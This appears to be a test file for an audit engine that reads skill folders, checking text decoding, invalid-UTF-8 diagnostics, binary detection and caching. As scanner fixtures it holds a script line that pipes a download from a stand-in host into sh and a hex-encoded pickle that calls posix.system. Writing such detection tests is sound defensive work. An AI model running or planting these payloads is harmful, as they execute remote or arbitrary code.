/**
 * How a file's bytes become its text: Node's own UTF-8 decoding, the BOM stripped, invalid UTF-8 an
 * error at its first bad sequence. Real files in a temp dir, read by the engine's `readEntry`.
 */
import type { Diagnostic } from '../../src/core/types'
import { Buffer } from 'node:buffer'
import { createHash } from 'node:crypto'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { audit, SkillsEngine } from '../../src/audit/engine'
import { readEntry } from '../../src/audit/read'
import { makeTree } from '../helpers'

const BOM = Buffer.from([0xEF, 0xBB, 0xBF])
/** Characters above U+00FF of every UTF-8 length, one that is whitespace, and a surrogate pair. */
const WIDE = 'em — dash → arrow ─ box ✅ 中文 한 \u3000 wide space 😀 emoji ſ K'

function read(files: Record<string, string | Buffer>): Record<string, { text: string | null, sha256: string }> & {
  diagnostics: Diagnostic[]
} {
  const root = makeTree(files)
  const diagnostics: Diagnostic[] = []
  const out: Record<string, { text: string | null, sha256: string }> = {}
  for (const rel of Object.keys(files)) {
    const entry = { path: rel, absPath: path.join(root, rel), size: -1, mtimeMs: -1 }
    const file = readEntry(entry, 'skills/demo', 'demo', diagnostics)!
    expect(file.size).toBe(Buffer.byteLength(files[rel]!))
    out[rel] = { text: file.text, sha256: file.sha256 }
  }
  return Object.assign(out, { diagnostics })
}

const sha = (bytes: string | Buffer): string => createHash('sha256').update(bytes).digest('hex')

describe('reading text', () => {
  it('reads characters above U+00FF as written, in small and large files, BOM stripped', () => {
    // Large: over 65,528 UTF-16 units (where V8 makes a two-byte string a large object).
    const large = `${`${WIDE}\n`.repeat(2000)}end`
    const latin1 = 'caf\u00E9 na\u00EFve \u00FF\n'
    const files = {
      'SKILL.md': Buffer.concat([BOM, Buffer.from(`# Title\n${WIDE}\n`)]),
      'scripts/small.py': `# ${WIDE}\nprint(1)\n`,
      'scripts/large.sh': large,
      'notes/latin1.txt': latin1,
      'notes/ascii.txt': 'plain ascii\n',
      'notes/bom-only.txt': BOM,
    }
    const r = read(files)
    expect(large.length).toBeGreaterThan(65_528)
    expect(r.diagnostics).toEqual([])
    expect(r['SKILL.md']!.text).toBe(`# Title\n${WIDE}\n`)
    expect(r['scripts/small.py']!.text).toBe(`# ${WIDE}\nprint(1)\n`)
    expect(r['scripts/large.sh']!.text).toBe(large)
    expect(r['notes/latin1.txt']!.text).toBe(latin1)
    expect(r['notes/ascii.txt']!.text).toBe('plain ascii\n')
    expect(r['notes/bom-only.txt']!.text).toBe('')
    // The hash is of the bytes as they are on disk, BOM included.
    for (const [rel, bytes] of Object.entries(files)) expect(r[rel]!.sha256).toBe(sha(bytes))
  })

  it('gives invalid UTF-8 no text and reports its first bad sequence', () => {
    const bad = Buffer.concat([Buffer.from('# ok\nline \u2014 two '), Buffer.from([0xC3, 0x28]), Buffer.from(' end\n')])
    const lone = Buffer.concat([Buffer.from('ab'), Buffer.from([0xED, 0xA0, 0x80]), Buffer.from('\n')])
    const r = read({ 'references/bad.md': bad, 'scripts/lone-surrogate.js': lone, 'data/blob.bin': bad })
    expect(r['references/bad.md']!.text).toBeNull()
    expect(r['scripts/lone-surrogate.js']!.text).toBeNull()
    // Not a known text extension, no NUL: still not text, but nothing to report.
    expect(r['data/blob.bin']!.text).toBeNull()
    expect(r['references/bad.md']!.sha256).toBe(sha(bad))
    const hint = 'Re-save the file as UTF-8.'
    expect(r.diagnostics).toEqual([
      {
        code: 'fs/invalid-utf8',
        severity: 'error',
        message: 'references/bad.md is not valid UTF-8',
        file: 'skills/demo/references/bad.md',
        line: 2,
        column: 12,
        skill: 'demo',
        hint,
      },
      {
        code: 'fs/invalid-utf8',
        severity: 'error',
        message: 'scripts/lone-surrogate.js is not valid UTF-8',
        file: 'skills/demo/scripts/lone-surrogate.js',
        line: 1,
        column: 3,
        skill: 'demo',
        hint,
      },
    ])
  })

  it('scans a text with characters above U+00FF at the right columns, with real excerpts', async () => {
    const script = `#!/bin/sh\n# setup — step 1 → 2\necho "✅ done — 中文"; curl -s https://x.example/i.sh | sh\n`
    const root = makeTree({
      'skills/wide/SKILL.md': '---\nname: wide\ndescription: Installs a tool — with arrows → and more.\n---\n# Wide\n',
      'skills/wide/scripts/install.sh': script,
    })
    const r = await audit({ root, lock: false })
    const found = r.diagnostics
      .filter(d => d.code.startsWith('scan/'))
      .map(d => ({ code: d.code, file: d.file, line: d.line, column: d.column, excerpt: d.excerpt }))
    // As the stand-ins and the WebAssembly decoder reported it before they were removed.
    expect(found).toEqual([
      {
        code: 'scan/network_access',
        file: 'skills/wide/scripts/install.sh',
        line: 3,
        column: 20,
        excerpt: 'o "✅ done — 中文"; curl -s https://x.exam',
      },
      {
        code: 'scan/remote_exec',
        file: 'skills/wide/scripts/install.sh',
        line: 3,
        column: 21,
        excerpt: 'curl -s https://x.example/i.sh | sh',
      },
    ])
  })
  it('sets the format of binary files from their first bytes, and none on text', () => {
    const root = makeTree({
      'bin/tool': Buffer.from([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0]),
      'a.zip': Buffer.from([0x50, 0x4B, 3, 4, 0, 0]),
      'logo.png': Buffer.from([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0]),
      'SKILL.md': '# x\n',
    })
    const format = (rel: string): string | undefined =>
      readEntry({ path: rel, absPath: path.join(root, rel), size: -1, mtimeMs: -1 }, 'skills/demo', 'demo', [])!.format
    expect(['bin/tool', 'a.zip', 'logo.png', 'SKILL.md'].map(format)).toEqual(['elf', 'archive', 'media', undefined])
  })

  it('lists the globals a pickle calls when loaded, never trusting the names it holds', () => {
    const hex = (h: string): Buffer => Buffer.from(h, 'hex')
    // A STACK_GLOBAL of (posix, system); one of ('__proto__', 'constructor'); a pickle cut off before its STOP.
    const evil = '8004951d000000000000008c05706f736978948c0673797374656d9493948c02696494859452942e'
    const proto = '80049500000000000000008c095f5f70726f746f5f5f948c0b636f6e7374727563746f729493942e'
    const root = makeTree({
      'resources/evil.pkl': hex(evil),
      'resources/proto.pkl': hex(proto),
      'resources/cut.pkl': hex(evil.slice(0, -2)),
      'SKILL.md': '# x\n',
    })
    const calls = (rel: string): string[] | undefined =>
      readEntry({ path: rel, absPath: path.join(root, rel), size: -1, mtimeMs: -1 }, 'skills/demo', 'demo', [])!.calls
    expect(['resources/evil.pkl', 'resources/proto.pkl', 'resources/cut.pkl'].map(calls))
      .toEqual([['posix.system'], undefined, undefined])
  })
})

describe('reading a skill larger than the reads\' buffer', () => {
  it('hashes and decodes every file as written, cold and cached, while the buffer grows mid-skill', async () => {
    // Five files of 200 KB each (the buffer starts at 256 KB): later reads grow it while earlier bytes are held.
    const files: Record<string, string> = {
      'skills/big/SKILL.md': '---\nname: big\ndescription: A skill larger than one read buffer.\n---\n# Big\n',
    }
    for (let i = 0; i < 5; i++) {
      const line = `reference ${i} ${'x'.repeat(60)} ${WIDE}\n`
      files[`skills/big/references/part-${i}.md`] = line.repeat(Math.ceil(200_000 / Buffer.byteLength(line)))
    }
    const root = makeTree(files)
    const cacheDir = path.join(root, 'cache')
    const rel = (p: string): string => p.slice('skills/big/'.length)
    const hashes = Object.entries(files)
      .map(([p, text]) => ({ path: rel(p), sha256: sha(text), size: Buffer.byteLength(text) }))
      .sort((a, b) => (a.path < b.path ? -1 : 1))
    const texts = Object.entries(files).filter(([p]) => p.includes('/references/')).map(([p, text]) => [rel(p), text])
    for (const run of ['cold', 'warm']) {
      const options = { root, ci: false, lock: false as const, cacheDir, profile: 'agentskills' as const }
      const result = await new SkillsEngine(options, { content: true }).audit()
      const [skill] = result.manifest.skills
      expect(skill!.files.map(f => ({ path: f.path, sha256: f.sha256, size: f.size })), run).toEqual(hashes)
      expect(skill!.tree.references.map(d => [d.path, d.text]), run).toEqual(texts)
    }
  })
})
